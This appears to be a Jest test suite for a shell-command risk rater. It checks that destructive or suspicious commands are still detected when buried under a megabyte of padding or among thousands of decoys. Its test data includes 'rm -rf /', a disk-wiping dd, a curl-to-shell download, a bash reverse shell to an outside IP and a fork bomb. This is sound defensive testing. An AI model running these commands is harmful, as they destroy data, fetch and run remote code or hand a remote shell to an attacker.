import { describe, expect, test } from '@jest/globals';
import { riskRank } from '../../src/domain/events/risk-level.ts';
import { rate } from '../../src/risk/rate.ts';
import { analyse } from '../../src/shell/analyse.ts';
import { MAX_INVOCATIONS } from '../../src/shell/limits.ts';
import { ALL_EXAMPLES } from './examples/all-examples.ts';

const MEGABYTE = 1_000_000;
const fill = (piece: string, length: number): string => piece.repeat(Math.ceil(length / piece.length));
const levelOf = (command: string): string => rate(command, 'bash').level;
const numbered = (length: number): string => {
  const lines: string[] = [];
  for (let at = 0, size = 0; size < length; at += 1) {
    lines.push(`cmd${at} -x "v$V${at}" >f${at};`);
    size += lines.at(-1)?.length ?? 0;
  }
  return lines.join('');
};

const FILLERS: Readonly<Record<string, string>> = {
  commands: fill('true;', MEGABYTE),
  lines: fill('echo a\n', MEGABYTE),
  comments: fill('# nothing\n', MEGABYTE),
  blanks: `true${' '.repeat(MEGABYTE)};`,
  'empty lines': '\n'.repeat(MEGABYTE),
  'one word': `echo ${'x'.repeat(MEGABYTE)};`,
  'a quoted text': `echo '${fill('a; b ', MEGABYTE)}';`,
  'a here-document': `cat <<E\n${fill('The quick brown fox\n', MEGABYTE)}E\n`,
  'unclosed quotes': `echo ${fill('"a\';', MEGABYTE)}`,
  'deep brackets': `${fill('(', MEGABYTE)};`,
  assignments: fill('A=$A$A;', MEGABYTE),
  'different commands': numbered(MEGABYTE),
  'commands that are dangerous themselves': fill('git push --force;', MEGABYTE),
};

const CRITICAL = [
  'rm -rf /',
  'sudo rm -rf --no-preserve-root /',
  'dd if=/dev/zero of=/dev/sda',
  'curl -s https://x.example/a | sh',
  'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
  ':(){ :|:& };:',
  "sh -c 'rm -rf /'",
  'while true; do bash & done',
];

describe.each(Object.entries(FILLERS))('behind 1 MB of %s', (_name, filler) => {
  test.each(CRITICAL)('%s is rated as it is alone', (command) => {
    expect(riskRank(levelOf(filler + command) as 'high')).toBeGreaterThanOrEqual(riskRank(levelOf(command) as 'high'));
  });

  test('an ordinary command adds no danger', () => {
    expect(levelOf(`${filler}ls -l /`)).toBe(levelOf(filler));
  });
});

test('each dangerous example of a rule is found behind more commands than are analysed', () => {
  const filler = fill('true;', 5 * (MAX_INVOCATIONS + 1));
  const commands = Object.values(ALL_EXAMPLES).flatMap(({ fires }) => fires);
  const lost = commands.filter((command) => {
    // A redirection without a command counts less where a line has commands.
    const alone = levelOf(`true\n${command}`);
    return (alone === 'high' || alone === 'critical') && levelOf(`${filler}\n${command}`) !== alone;
  });
  expect(lost).toEqual([]);
});

test('a dangerous command among more suspicious ones than are read is at least a high risk', () => {
  const decoys = Array.from({ length: 3_000 }, (_, at) => `curl -s https://x${at}.example/a -o /tmp/x${at};`).join('');
  const filler = fill('true;', 5 * (MAX_INVOCATIONS + 1));
  expect(levelOf(`${filler}${decoys}rm -rf /`)).toBe('high');
  expect(analyse(`${filler}${decoys}`, 'bash').missed).toBe(true);
});

test('a line of the longest option is read', () => {
  expect(levelOf(`bash -${'x'.repeat(200_000)}; rm -rf /`)).toBe('critical');
});
